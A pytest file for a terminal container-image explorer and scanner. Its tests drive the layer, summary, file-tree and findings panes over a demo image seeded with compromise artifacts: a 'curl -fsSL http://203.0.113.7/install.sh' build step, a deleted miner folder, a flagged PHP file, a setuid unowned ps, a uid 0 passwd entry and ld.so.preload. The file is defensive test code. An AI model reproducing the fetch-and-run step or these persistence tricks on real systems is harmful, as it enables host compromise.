"""The panes on the demo image: layer list and details, image summary, file tree markers, filters,
sorting, jumps from findings (through filters), and the demo itself."""

from __future__ import annotations

import pytest

from explorer.scan.engine import DetectorSet
from explorer.core.findings import CATEGORIES
from explorer.tui.app import ExplorerApp
from tests.support.pilot import choose_finding, go_to, wait_for_tree
from explorer.tui.widgets.details import Details
from explorer.tui.widgets.filetree import FileTree
from explorer.tui.widgets.findings import FindingsTable
from explorer.tui.widgets.layers import SEVERITY_STYLE, LayerTable
from explorer.tui.widgets.summary import SummaryPanel

SIZE = (160, 48)


def children(tree: FileTree, path: str = "/") -> list[str]:
    """The rows the tree shows (root) or would show when expanded (a folder) under the current filter."""
    if path == "/":
        return [c.data.path for c in tree.root.children]
    return [d.path for d in tree.listing(path)]


def _node(tree: FileTree, path: str):
    stack = [tree.root]
    while stack:
        node = stack.pop()
        if node.data is not None and node.data.path == path and not node.data.more:
            return node
        stack.extend(node.children)
    raise AssertionError(f"{path} is not in the tree")


def label(tree: FileTree, path: str) -> str:
    assert tree.reveal(path), path
    return _node(tree, path).label.plain


@pytest.fixture
async def demo(demo_source, wait_for_scan):
    app = ExplorerApp(demo_source)
    async with app.run_test(size=SIZE) as pilot:
        await wait_for_scan(pilot, app)
        yield app, pilot


async def test_demo_has_findings_of_every_category_and_still_opens(demo):
    app, _pilot = demo
    assert {f.category for f in app.scan_index.result.findings} == set(CATEGORIES)
    assert app.query_one(LayerTable).row_count == 6
    integrity = [f for f in app.scan_index.result.findings if f.category == "integrity"]
    assert [f.layer for f in integrity if not f.rule_id.startswith("integrity.package.")] == [1]
    assert sorted((f.layer, f.path) for f in integrity if f.rule_id.startswith("integrity.package.")) == [
        (5, "/bin/ps"), (5, "/usr/bin/curl"), (5, "/usr/bin/kworkerds")]  # replaced curl, two unowned programs


async def test_layer_rows_show_changes_and_findings_by_severity(demo):
    app, _pilot = demo
    table = app.query_one(LayerTable)
    index, size, changes, findings, created = (c.plain for c in table.get_row_at(3))
    assert changes == "+9 ~0 -0" and findings == "3C 10H 3M 1L"
    assert created.startswith("RUN curl -fsSL http://203.0.113.7/install.sh")
    assert table.get_row_at(4)[2].plain == "+0 ~0 -3"  # .env, /tmp/.x, the apt list its opaque folder hid
    assert table.get_row_at(5)[2].plain == "+10 ~2 -0"  # curl patched, /etc/passwd gains a uid 0


async def test_layer_details_say_digest_media_type_and_integrity(demo):
    app, pilot = demo
    details = app.query_one(Details)
    assert "media type" in details.plain and "integrity  ok" in details.plain
    app.select_layer(1)
    await pilot.pause()
    assert "integrity  layer 1: uncompressed stream hashes to" in details.plain
    assert "created by  /bin/sh -c apt-get update && apt-get install -y curl" in details.plain


async def test_image_summary_gives_sizes_efficiency_user_and_entrypoint(demo):
    app, _pilot = demo
    plain = app.query_one(SummaryPanel).plain
    for word in ("total", "in 6 layers", "wasted", "efficiency", "user root (not set)", "entrypoint -",
                 'cmd ["/bin/sh", "-c", "python3 /srv/app/app.py"]'):
        assert word in plain


async def test_tree_rows_say_status_size_mode_owner_target_and_worst_finding(demo):
    app, pilot = demo
    tree = app.query_one(FileTree)
    assert tree.layer_index == 5
    ps = label(tree, "/bin/ps")
    assert ps.startswith("A ps ") and "-rwsr-xr-x 0:0" in ps and "setuid" in ps and ps.endswith("!M")  # unowned
    styled = {ps[span.start:span.end].strip(): str(span.style) for span in _node(tree, "/bin/ps").label.spans}
    assert styled["A"] == "bold green" and styled["ps"] == "green" and styled["setuid"] == "bold red"
    assert styled["!M"] == SEVERITY_STYLE["medium"] and styled["-rwsr-xr-x 0:0"] == "dim"
    assert label(tree, "/usr/bin/curl").startswith("M curl ")
    assert label(tree, "/bin/sh").startswith("  sh -> busybox")
    assert label(tree, "/var/www/html/up.php").endswith("!C")
    assert label(tree, "/var").endswith("!C")  # the worst below it
    await pilot.press("left_square_bracket")
    await wait_for_tree(pilot)
    ghost = label(tree, "/tmp/.x")
    assert ghost.startswith("D .x/") and ghost.endswith("!C")  # the deleted miner folder


async def test_filters_added_modified_deleted_unchanged_and_flagged(demo):
    app, pilot = demo
    tree = app.query_one(FileTree)
    await pilot.press("c")  # changes only at layer 5
    assert children(tree) == ["/bin", "/etc", "/root", "/usr", "/var"]
    assert "showing A M D" in tree.border_title
    await pilot.press("a")  # hide added: only the modified curl and passwd are left
    assert children(tree) == ["/etc", "/usr"] and children(tree, "/usr") == ["/usr/bin"]
    assert children(tree, "/etc") == ["/etc/passwd"]
    await pilot.press("0")
    assert "/etc" in children(tree) and "/tmp" in children(tree)
    await pilot.press("exclamation_mark")  # flagged only: copies with findings visible at layer 5
    assert children(tree) == ["/bin", "/etc", "/root", "/srv", "/usr", "/var"]
    assert children(tree, "/etc") == ["/etc/cron.d", "/etc/ld.so.preload", "/etc/passwd"]
    assert "flagged only" in tree.border_title
    await pilot.press("exclamation_mark", "u")  # hide unchanged only: same as changes only
    assert children(tree) == ["/bin", "/etc", "/root", "/usr", "/var"]
    await pilot.press("left_square_bracket")  # the filters stay when the layer changes
    await wait_for_tree(pilot)
    assert children(tree) == ["/srv", "/tmp", "/var"]
    await pilot.press("a", "m")  # layer 4, deleted only
    assert children(tree) == ["/srv", "/tmp", "/var"] and children(tree, "/tmp") == ["/tmp/.x"]


async def test_filter_keeps_the_cursor_on_the_same_path(demo):
    app, pilot = demo
    tree = app.query_one(FileTree)
    await go_to(pilot, 5, "/var/www/html/up.php")
    await pilot.press("c")
    await pilot.pause()
    assert tree.cursor_node.data.path == "/var/www/html/up.php"


async def test_sort_by_size_puts_the_biggest_first(demo):
    app, pilot = demo
    tree = app.query_one(FileTree)
    await pilot.press("t", "s")
    sizes = [tree._row_size(c.data) for c in tree.root.children]
    assert sizes == sorted(sizes, reverse=True) and sizes[0] > sizes[-1]
    assert "by size" in tree.border_title
    await pilot.press("s")
    assert children(tree)[:3] == ["/bin", "/etc", "/root"]


async def test_findings_sort_by_severity_layer_and_category(demo):
    app, pilot = demo
    table = app.query_one(FindingsTable)
    rank = {"critical": 0, "high": 1, "medium": 2, "low": 3, "info": 4}
    assert [rank[f.severity] for f in table.findings] == sorted(rank[f.severity] for f in table.findings)
    await pilot.press("f", "s")
    layers = [-1 if f.layer is None else f.layer for f in table.findings]
    assert table.sort_by == "layer" and layers == sorted(layers)
    assert table.get_row_at(0)[1].plain == "-"
    await pilot.press("s")
    assert [f.category for f in table.findings] == sorted(f.category for f in table.findings)
    await pilot.press("s")
    assert table.sort_by == "severity"


async def test_choosing_a_finding_clears_a_filter_that_hides_its_file(demo):
    app, pilot = demo
    await pilot.press("a")  # hide what each layer added: every planted file was added
    await choose_finding(pilot, "/var/www/html/up.php")
    tree = app.query_one(FileTree)
    assert app.layer_index == 5 and tree.cursor_node.data.path == "/var/www/html/up.php"
    assert app.tree_filter.everything and tree.filter.everything


async def test_choosing_a_finding_on_a_deleted_copy_goes_to_its_layer(demo):
    app, pilot = demo
    await choose_finding(pilot, "/srv/app/.env")
    tree = app.query_one(FileTree)
    assert app.layer_index == 2 and tree.cursor_node.data.path == "/srv/app/.env"
    assert app.query_one(LayerTable).cursor_row == 2
    assert "NOT visible in the final image" in app.query_one(Details).plain


async def test_theme_toggles_between_light_and_dark(demo):
    app, pilot = demo
    dark = app.current_theme.dark
    await pilot.press("ctrl+t")
    assert app.current_theme.dark is not dark
    await pilot.press("ctrl+t")
    assert app.current_theme.dark is dark


async def test_palette_offers_filters_sorts_export_and_theme(demo):
    app, _pilot = demo
    titles = [c.title for c in app.get_system_commands(app.screen)]
    for title in ("Files: flagged only", "Files: show or hide deleted", "Files: sort by name or size",
                  "Findings: sort by severity, layer or category", "Export the selected copy",
                  "Toggle light/dark theme"):
        assert title in titles


async def test_big_layers_are_built_on_a_worker_and_the_keys_still_work(demo_source, wait_for_scan, monkeypatch):
    import explorer.tui.index as index_module

    monkeypatch.setattr(index_module, "CHEAP_ENTRIES", 0)
    app = ExplorerApp(demo_source, detectors=DetectorSet())
    async with app.run_test(size=SIZE) as pilot:
        await wait_for_scan(pilot, app)
        tree = app.query_one(FileTree)
        assert tree.layer_index == 5  # the last layer's view comes with the scan result
        await pilot.press("left_square_bracket", "left_square_bracket")
        await wait_for_tree(pilot)
        assert app.layer_index == 3 and tree.layer_index == 3 and "/tmp" in children(tree)
        await go_to(pilot, 2, "/srv/app/.env")
        assert tree.layer_index == 2 and tree.cursor_node.data.path == "/srv/app/.env"


async def test_the_demo_is_written_once_into_the_user_cache(tmp_path, monkeypatch):
    from explorer.demo import cached_demo

    monkeypatch.delenv("EXPLORER_CACHE_DIR", raising=False)  # then $XDG_CACHE_HOME/explorer
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    first = cached_demo()
    assert first.startswith(str(tmp_path / "explorer")) and first.endswith(".tar")
    mtime = (tmp_path / "explorer" / first.rsplit("/", 1)[-1]).stat().st_mtime_ns
    assert cached_demo() == first
    assert (tmp_path / "explorer" / first.rsplit("/", 1)[-1]).stat().st_mtime_ns == mtime
    assert [p.name for p in (tmp_path / "explorer").iterdir()] == [first.rsplit("/", 1)[-1]]


async def test_clicking_a_column_header_sorts_the_findings(demo):
    app, pilot = demo
    table = app.query_one(FindingsTable)
    await pilot.click(FindingsTable, offset=(13, 1))  # the "layer" header, below the border
    await pilot.pause()
    assert table.sort_by == "layer"
    layers = [f.layer for f in table.findings if f.layer is not None]
    assert layers == sorted(layers) and len(set(layers)) > 1
    await pilot.click(FindingsTable, offset=(3, 1))  # "severity"
    await pilot.pause()
    assert table.sort_by == "severity"


async def test_a_deleted_folder_opens_on_what_it_removed(demo):
    from explorer.tui.screens.viewer import FileViewer

    app, pilot = demo
    tree = app.query_one(FileTree)
    await go_to(pilot, 4, "/tmp/.x")
    await pilot.press("c")
    assert children(tree, "/tmp/.x") == ["/tmp/.x/config.json", "/tmp/.x/kworker"]
    assert label(tree, "/tmp/.x/kworker").startswith("D kworker ")
    await go_to(pilot, 4, "/tmp/.x/kworker")
    node = tree.cursor_node
    assert node.data.path == "/tmp/.x/kworker" and node.data.deleted and node.data.entry.layer == 3
    await pilot.press("v")  # the removed copy is still readable from layer 3's blob
    assert isinstance(app.screen, FileViewer) and app.screen.entry.layer == 3


async def test_a_jump_from_a_finding_keeps_the_focus_on_the_findings(demo):
    app, pilot = demo
    await choose_finding(pilot, "/tmp/.x/kworker")
    tree = app.query_one(FileTree)
    assert tree.layer_index == 3 and tree.cursor_node.data.path == "/tmp/.x/kworker"
    assert isinstance(app.focused, FindingsTable)  # down, enter, enter walks on through the findings
    await pilot.press("down", "enter")
    await pilot.pause()
    await pilot.press("enter")
    await wait_for_tree(pilot)
    assert tree.layer_index == 5 and tree.cursor_node.data.path == "/var/www/html/up.php"  # the next critical
